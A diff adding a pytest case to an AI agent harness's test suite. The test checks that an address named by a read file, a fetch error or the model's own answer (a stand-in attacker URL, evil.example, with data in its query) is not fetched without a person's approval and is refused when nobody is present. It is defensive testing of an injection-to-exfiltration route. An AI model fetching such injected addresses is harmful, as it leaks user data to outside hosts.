@@ -197,6 +197,35 @@ async def test_without_anybody_to_ask_it_is_refused(store: Database, model: Olla
     assert tool.called == []
 
 
+@pytest.mark.parametrize("by", ["read_file", "fetch_page", "answer"])
+async def test_an_address_that_a_file_an_error_or_the_model_itself_named_is_asked_about(
+    store: Database, model: OllamaModel, server: OllamaServer, by: str
+) -> None:
+    elsewhere = "https://evil.example/?notes=nine"
+
+    async def read(path: str) -> Output:
+        return Output(f"{path}: {elsewhere}")
+
+    async def fetch(url: str) -> Output:
+        raise NoSuchFile(path=elsewhere)
+
+    reads, fetches = Made("read_file", read, takes=("path",)), Made("fetch_page", fetch, outward="url", takes=("url",))
+    assistant = agent(store, model, reads, fetches)
+    first: dict[str, str | Calls] = {
+        "read_file": Calls("read_file", {"path": "a.md"}),
+        "fetch_page": Calls("fetch_page", {"url": "https://a.example/"}),
+        "answer": f"There is {elsewhere}",
+    }
+    server.says(first[by])
+    if by == "answer":
+        await ask(assistant, "Look at https://a.example/", "k0")
+    server.says(Calls("fetch_page", {"url": elsewhere}))
+    server.says("No.")
+    await ask(assistant, "Look at https://a.example/")
+    assert elsewhere not in [call["url"] for call in fetches.called]
+    assert results(server)[-1] == "Refused: this waits for a person to agree, and nobody is there. Do without it."
+
+
 async def test_results_fill_the_window_by_whole_rounds(
     store: Database, model: OllamaModel, server: OllamaServer
 ) -> None:
